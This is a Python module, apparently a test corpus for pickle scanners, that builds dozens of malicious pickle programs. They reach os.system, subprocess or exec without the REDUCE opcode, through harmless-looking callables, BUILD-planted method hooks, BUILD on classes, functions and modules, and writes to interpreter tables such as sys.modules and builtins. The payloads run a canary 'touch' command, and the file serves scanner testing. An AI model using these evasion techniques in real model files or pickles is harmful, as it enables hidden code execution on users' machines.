"""Pickle programs that call without REDUCE, through harmless-looking callables, or by changing what is called."""

from __future__ import annotations

from collections.abc import Iterator

from corpus.opcodes import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ_EX,
    NONE,
    POP,
    REDUCE,
    SETITEM,
    SETITEMS,
    SYSTEM,
    call,
    dict_of,
    inst,
    list_of,
    literal,
    name,
    new,
    obj,
    program,
    stack_name,
    text,
    tuple_of,
)
from corpus.sample import CANARY, CODE, SHELL, Draft, pickled

COMMAND = text(SHELL)
WORDS = literal(["touch", CANARY])
THING = new(name("argparse", "Namespace"))


def drafts() -> Iterator[Draft]:
    """All of them."""
    for part in (calling, hooks, builds, writes):
        yield from part()


def calling() -> Iterator[Draft]:
    """Calls through harmless-looking callables and through opcodes that are not REDUCE."""
    system = name("os", "system")
    module = call(name("importlib", "import_module"), text("os"))
    mapped = new(name("builtins", "map"), system, list_of(COMMAND))
    ways = {
        "obj-pop": obj(system, COMMAND) + POP + NONE,
        "inst-pop": inst("os", "system", COMMAND) + POP + NONE,
        "newobj-map-tuple": new(name("builtins", "tuple"), mapped),
        "newobj-map-set": new(name("builtins", "frozenset"), mapped),
        "newobj-filter": new(name("builtins", "tuple"), new(name("builtins", "filter"), system, list_of(COMMAND))),
        "newobj-starmap": new(
            name("builtins", "tuple"), new(name("itertools", "starmap"), system, list_of(literal((SHELL,))))
        ),
        "newobj-ex-map": new(
            name("builtins", "bytes"),
            name("builtins", "map") + tuple_of(system, list_of(COMMAND)) + EMPTY_DICT + NEWOBJ_EX,
        ),
        "map-into-dict": call(stack_name("collections", "OrderedDict.fromkeys"), mapped),
        "map-into-deque": call(name("collections", "deque"), mapped),
        "map-into-counter": call(name("collections", "Counter"), mapped),
        "map-into-array": call(name("array", "array"), text("i"), mapped),
        "getattr": call(call(name("builtins", "getattr"), module, text("system")), COMMAND),
        "attrgetter": call(call(call(name("operator", "attrgetter"), text("system")), module), COMMAND),
        "methodcaller": call(call(name("operator", "methodcaller"), text("system"), COMMAND), module),
        "partial": call(call(name("functools", "partial"), system, COMMAND)),
        "partial-build": call(
            new(name("functools", "partial"), name("builtins", "print"))
            + tuple_of(system, literal((SHELL,)), dict_of(), NONE)
            + BUILD
        ),
        "functools-reduce": call(name("functools", "reduce"), name("operator", "call"), list_of(system, COMMAND)),
        "operator-call": call(name("operator", "call"), system, COMMAND),
        "iter-next": call(name("builtins", "next"), mapped),
        "resolve-name": call(call(name("pkgutil", "resolve_name"), text("os:system")), COMMAND),
        "reconstructor": call(
            name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("subprocess", "Popen"), WORDS
        ),
        "copyreg-newobj": call(name("copyreg", "__newobj__"), name("builtins", "tuple"), mapped),
        "defaultdict": call(
            stack_name("collections", "defaultdict.__getitem__"),
            call(name("collections", "defaultdict"), call(name("functools", "partial"), system, COMMAND)),
            literal(1),
        ),
        "function-type": call(
            call(
                name("types", "FunctionType"),
                call(name("builtins", "compile"), text(CODE), text("x"), text("exec")),
                dict_of(),
            )
        ),
        "subclasses": call(stack_name("builtins", "object.__subclasses__")) + POP + SYSTEM,
        "persistent-decoy": call(system, COMMAND) + MEMOIZE,
        "exec-in-globals": call(name("builtins", "exec"), text(CODE), call(name("builtins", "globals"))),
        "getattr-nested": call(stack_name("os", "system.__call__"), COMMAND),
        "module-dict": call(
            call(stack_name("builtins", "dict.get"), stack_name("os", "__dict__"), text("system")), COMMAND
        ),
        "sys-modules-get": call(
            call(name("builtins", "getattr"), call(stack_name("sys", "modules.get"), text("os")), text("system")),
            COMMAND,
        ),
        "itemgetter": call(
            call(call(name("operator", "itemgetter"), text("system")), stack_name("os", "__dict__")), COMMAND
        ),
        "chain": new(
            name("builtins", "tuple"),
            call(
                stack_name("itertools", "chain.from_iterable"),
                list_of(new(name("builtins", "map"), name("subprocess", "getoutput"), list_of(COMMAND))),
            ),
        ),
    }
    for way, body in ways.items():
        yield pickled(f"call-{way}", program(body))


def hooks() -> Iterator[Draft]:
    """Calls without any calling opcode: methods that an instance was given by BUILD."""
    system, popen = name("os", "system"), name("subprocess", "call")

    def hook(method: str, function: bytes, holder: bytes = THING) -> bytes:
        return holder + dict_of(text(method), function) + BUILD

    yield pickled("hook-append", program(hook("append", system) + COMMAND + APPEND))
    yield pickled("hook-appends", program(hook("append", system) + MARK + COMMAND + APPENDS))
    yield pickled("hook-extend", program(hook("extend", popen) + MARK + text("touch") + text(CANARY) + APPENDS))
    yield pickled("hook-add", program(hook("add", system) + MARK + COMMAND + ADDITEMS))
    yield pickled("hook-setstate", program(hook("__setstate__", system) + COMMAND + BUILD))
    for holder in (
        "collections.UserDict",
        "email.message.Message",
        "string.Formatter",
        "sklearn.linear_model._base.LinearRegression",
        "torch.nn.modules.linear.Identity",
    ):
        module, attribute = holder.rsplit(".", 1)
        body = hook("append", system, new(name(module, attribute)))
        yield pickled(f"hook-on-{attribute}", program(body + COMMAND + APPEND))
    slots = THING + tuple_of(NONE, dict_of(text("append"), system)) + BUILD + COMMAND + APPEND
    yield pickled("hook-slot-state", program(slots))
    yield pickled("hook-memo", program(hook("append", system) + MEMOIZE + POP + b"h\x00" + COMMAND + APPEND))
    yield pickled(
        "hook-reconstructor",
        program(
            hook(
                "append",
                system,
                call(
                    name("copyreg", "_reconstructor"), name("argparse", "Namespace"), name("builtins", "object"), NONE
                ),
            )
            + COMMAND
            + APPEND
        ),
    )


def builds() -> Iterator[Draft]:
    """BUILD on what is no instance: a class, a function, a module."""
    system = name("os", "system")
    on_class = name("argparse", "Namespace") + tuple_of(NONE, dict_of(text("__setstate__"), system)) + BUILD + POP
    yield pickled("build-on-class", program(on_class + THING + COMMAND + BUILD))
    listed = name("scipy.sparse._csr", "csr_matrix")
    on_class = listed + tuple_of(NONE, dict_of(text("__setstate__"), system)) + BUILD + POP
    yield pickled("build-on-listed-class", program(on_class + new(listed) + COMMAND + BUILD))
    code = call(name("builtins", "compile"), text(CODE), text("x"), text("exec"))
    on_function = name("copyreg", "__newobj__") + tuple_of(NONE, dict_of(text("__code__"), code)) + BUILD
    yield pickled("build-on-function", program(on_function + EMPTY_TUPLE + REDUCE))
    on_function = name("torch._utils", "_rebuild_parameter") + tuple_of(NONE, dict_of(text("__code__"), code)) + BUILD
    yield pickled("build-on-listed-function", program(on_function + EMPTY_TUPLE + REDUCE))
    module = name("pathlib", "os")
    yield pickled(
        "build-on-module", program(module + dict_of(text(CANARY), literal(1)) + BUILD + POP + name("os", CANARY))
    )
    on_module = name("pathlib", "fnmatch") + dict_of(text("translate"), system) + BUILD + POP
    yield pickled("build-on-module-then-call", program(on_module + call(name("fnmatch", "translate"), COMMAND)))
    on_module = name("collections", "_sys") + dict_of(text("intern"), system) + BUILD + POP
    yield pickled("build-on-sys", program(on_module + call(name("sys", "intern"), COMMAND)))


def writes() -> Iterator[Draft]:
    """SETITEM and APPEND on the interpreter's own tables."""
    system, module = name("os", "system"), name("pathlib", "os")
    extend = name("copyreg", "add_extension")
    for opcode, code in ((b"\x82\x07", 7), (b"\x83\x07\x01", 263), (b"\x84\x07\x01\x01\x00", 65799)):
        added = call(extend, text("os"), text("system"), literal(code)) + POP
        yield pickled("extension-added", program(added + opcode + tuple_of(COMMAND) + REDUCE))
        written = name("copyreg", "_inverted_registry") + literal(code) + literal(("os", "system")) + SETITEM + POP
        yield pickled("extension-registry", program(written + opcode + tuple_of(COMMAND) + REDUCE))
        cached = name("copyreg", "_extension_cache") + MARK + literal(code) + system + SETITEMS + POP
        yield pickled("extension-cache", program(cached + opcode + tuple_of(COMMAND) + REDUCE))
    yield pickled(
        "setitem-sys-modules",
        program(name("sys", "modules") + text("this") + module + SETITEM + POP + call(name("this", "system"), COMMAND)),
    )
    yield pickled("setitem-builtins", program(stack_name("builtins", "__dict__") + text(CANARY) + literal(1) + SETITEM))
    yield pickled(
        "setitem-builtins-len",
        program(
            stack_name("builtins", "__dict__")
            + text("len")
            + system
            + SETITEM
            + POP
            + call(name("builtins", "len"), COMMAND)
        ),
    )
    yield pickled("setitem-environ", program(name("os", "environ") + text(CANARY) + text("1") + SETITEM))
    yield pickled("setitem-environ-many", program(name("os", "environ") + MARK + text(CANARY) + text("1") + SETITEMS))
    yield pickled("append-sys-path", program(name("sys", "path") + text(CANARY) + APPEND))
    yield pickled("appends-sys-path", program(name("sys", "path") + MARK + text(CANARY) + APPENDS))
    yield pickled("setitem-dispatch", program(name("copyreg", "dispatch_table") + text(CANARY) + literal(1) + SETITEM))
    yield pickled(
        "setitem-module-dict",
        program(
            stack_name("os", "path.__dict__") + text(CANARY) + literal(1) + SETITEM + POP + name("os.path", CANARY)
        ),
    )
